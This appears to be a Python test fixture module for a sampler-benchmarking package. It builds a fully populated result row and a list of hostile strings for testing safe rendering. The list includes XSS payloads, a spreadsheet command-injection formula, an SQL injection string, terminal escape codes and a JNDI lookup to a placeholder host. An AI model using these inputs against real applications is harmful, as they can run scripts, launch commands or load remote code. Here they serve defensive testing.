"""One row with a value in every field, and altered forms of it as files that cannot be read."""

import json
import math
from hashlib import sha256

import pytest

from bridgemark.benchmarks.errors import BadInput
from bridgemark.benchmarks.rows.cost import Cost
from bridgemark.benchmarks.rows.encoding import CHECKSUM, encode
from bridgemark.benchmarks.rows.row import Row

FULL = Row(
    identity="0a1b2c3d4e5f60718293",
    sampler="smc",
    config="SMC(particles=1000)",
    source="5ca1ab1e",
    target="gmm9",
    target_version=1,
    fingerprint="04c0ffee",
    dim=2,
    seed=0,
    draws=10,
    status="ok",
    reason=None,
    budget=1e4,
    budget_unit="gradients",
    met_by="more draws",
    note="its chains end at 3e5",
    compile_seconds=1.5,
    fit_seconds=0.25,
    sample_seconds=0.125,
    steady_seconds=0.1,
    peak_memory_mb=812.5,
    fit_evals=Cost(values=2**40, gradients=3, simulations=0),
    sample_evals=Cost(values=0, gradients=7, simulations=0),
    metrics={"log_z": -1234.56789, "elbo": None, "r_hat_max": math.nan, "pareto_k": math.inf},
    floors={"sliced_w2": 0.09},
    errors={"log_z": 0.01},
    repeats={"log_z": [1.5, None, math.nan]},
    shown_draws=[[0.5, -1.25], [3.0, 0.0]],
    true_log_z=-1234.5,
    true_log_z_error=0.001,
    machine="a processor",
    load=0.5,
    origin="measured here",
    device="cpu x86_64",
    versions={"jax": "0.10.2", "scikit-learn": "1.6"},
    commit="cab4efa",
    started="2030-01-01T00:00:00+00:00",
)
# Every kind of text that Markdown, HTML, Rich, a spreadsheet or a terminal would not take for text.
HOSTILE_TEXTS = (
    "[/x]",
    "[red]x[/red] [link=http://evil.example]x[/link]",
    "[not closed",
    "\x1b[2J\x1b]0;title\x07\x1b[31m",
    "two\nlines\r\nand\ttabs\x0b\x0c\x85\u2028\u2029",
    "\x00\x08\x7f\x9b31m",
    "right to left \u202e txt \u2066 and \ufeff zero\u200bwidth",
    "half a pair \ud800",
    "<script>alert(1)</script><img src=x onerror=alert(1)>",
    "&lt;b&gt; &#60;script&#62;",
    "a | b || c \\| d",
    "`code` ``more`` ```\nblock\n```",
    "![image](http://evil.example/x.png) [link](javascript:alert(1)) [a]: http://evil.example",
    "see https://evil.example, ftp://evil.example and www.evil.example",
    "*b* **b** _i_ __init__ ~~s~~ $x^2$ $$",
    "# heading",
    "=cmd|'/c calc'!A1",
    "+1+1",
    "-2+3",
    "@SUM(A1)",
    "\t=1+1",
    "\r=1+1",
    "'; DROP TABLE rows; --",
    "${jndi:ldap://evil.example/a} %s %n {0} {x.__class__}",
    "",
    " ",
    "x" * 100_000,
    "\n" * 100_000,
    "日本語 émigré ½",
)


def text_of(data: object) -> bytes:
    """The line of any data, with the checksum that it would have."""
    hashed = json.dumps(data, ensure_ascii=True).encode()[:-1]
    return hashed + CHECKSUM + sha256(hashed).hexdigest()[:16].encode() + b'"}\n'


def data_of(row: Row = FULL) -> dict:
    """What is in the line of a row besides its checksum."""
    data = json.loads(encode(row))
    del data["checksum"]
    return data


def refusal(function) -> str:
    """The message of the BadInput that a function raises, which is one printable line."""
    with pytest.raises(BadInput) as raised:
        function()
    message = str(raised.value)
    assert message.isprintable()
    return message
